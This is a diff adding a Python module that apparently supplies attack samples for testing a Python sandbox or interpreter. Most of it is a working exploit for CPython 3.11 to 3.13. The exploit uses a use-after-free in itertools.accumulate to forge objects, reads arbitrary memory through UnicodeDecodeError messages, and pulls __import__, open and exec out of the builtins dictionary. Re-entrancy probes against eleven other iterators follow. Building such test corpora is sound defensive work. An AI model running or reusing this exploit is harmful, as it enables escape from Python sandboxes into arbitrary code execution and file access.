@@ -1,0 +1,114 @@
+"""Iterators of C code that a cell asks for the next item while they look for it.
+
+`accumulate` adds to a total that it does not hold: `next(it)` in `__add__` frees it, and a bytearray of the cell's takes
+its place. The forged object leads anywhere, from the addresses that id() tells. In CPython 3.11 to 3.13.
+"""
+
+ADVISORY = ""
+GUARANTEE = "no-reflection"
+_FORGE = """
+from itertools import accumulate
+def le(*n):
+    return b"".join(x.to_bytes(8, "little") for x in n)
+# Below the one, read by the text of an error; above the other, by a bytes object that it is the header of.
+many = [le(1 << 40, id(bytes), (1 << 62), 0) + bytes([i]) for i in range(200)]
+header, base = min(many, key=id), max(many, key=id)
+ib = id(base) + 32
+high = None
+def peek(address):
+    off = address - ib
+    if high is not None and address >= ih:
+        return high[address - ih]
+    s = str(UnicodeDecodeError("x", base, off, off + 1, "r"))
+    at = s.index("byte 0x") + 7
+    return int(s[at:at + 2], 16)
+def word(address):
+    return int.from_bytes(bytes([peek(address + i) for i in range(8)]), "little")
+def text(address):
+    n = word(address + 16)
+    if n > 60: return b""
+    return bytes([peek(address + TEXT + i) for i in range(n)])
+def forge(address_of_wanted):
+    # The object at this address.
+    tup = id(tuple)
+    got = []
+    class A:
+        __slots__ = ("a", "b", "c", "d", "e", "f", "g", "h")
+        n = 0
+        def __add__(self, other):
+            A.n += 1
+            if A.n == 1:
+                next(acc)
+                return NotImplemented
+            return 5
+    fake = bytes(16) + le(1000, tup, 1, address_of_wanted) + bytes(47)
+    class B:
+        def __radd__(self, other):
+            keep = [bytearray(fake) for i in range(40)]
+            got.append(other[0])
+            other = None
+            got.append(keep)
+            return 0
+    def gen():
+        yield A()
+        yield B()
+        yield 1
+        yield 2
+    acc = accumulate(gen())
+    next(acc)
+    next(acc)
+    return got[0]
+ih = id(header) + 64
+high = forge(id(header) + 32)
+probe = "open_probe"
+for TEXT in (40, 48):
+    if bytes([peek(id(probe) + TEXT + i) for i in range(4)]) == b"open": break
+builtins_dict = word(id(print) + 24)
+def entries(d):
+    keys = word(d + 32)
+    log2, logbytes, kind = peek(keys + 8), peek(keys + 9), peek(keys + 10)
+    n = word(keys + 24)
+    start = keys + 32 + (1 << logbytes)
+    step = 16 if kind else 24
+    for i in range(n):
+        at = start + i * step + (0 if kind else 8)
+        k = word(at)
+        if k:
+            yield k, word(at + 8)
+found = {}
+for k, v in entries(builtins_dict):
+    name = text(k)
+    if name in (b"open", b"__import__", b"exec"):
+        found[name] = v
+LOOT = forge(found[b"__import__"])
+"""
+_AGAIN = """
+from itertools import accumulate, chain, count, cycle, groupby, islice, pairwise, zip_longest
+calls = []
+LOOT = []
+def again(*values):
+    calls.append(1)
+    if len(calls) == 2:
+        next(it, None)
+        LOOT.append(CANARY)
+    return 1
+{make}
+for _ in range(2):
+    next(it)
+"""
+_MADE = {
+    "accumulate": "it = accumulate(map(again, 'abcdef'))",
+    "chain": "it = chain(map(again, 'abcdef'))",
+    "chain_from_iterable": "it = chain.from_iterable([map(again, 'abcdef')])",
+    "cycle": "it = cycle(map(again, 'abcdef'))",
+    "groupby": "it = groupby(map(again, 'abcdef'), lambda x: len(calls))",
+    "islice": "it = islice(map(again, 'abcdef'), 5)",
+    "pairwise": "it = pairwise(map(again, 'abcdef'))",
+    "zip_longest": "it = zip_longest(map(again, 'abcdef'))",
+    "callable": "it = iter(again, 2)",
+    "items": "class Items:\n    def __getitem__(self, at):\n        return again()\nit = iter(Items())",
+    "count": "class Number:\n    __int__ = int\n    def __add__(self, other):\n        again()\n        return self\n"
+    "it = count(Number())",
+}
+ATTACKS = {"use_after_free": _FORGE} | {name: _AGAIN.format(make=make) for name, make in _MADE.items()}
+CONTROLS = {"use_after_free": "def print():\n    pass\n" + _FORGE}
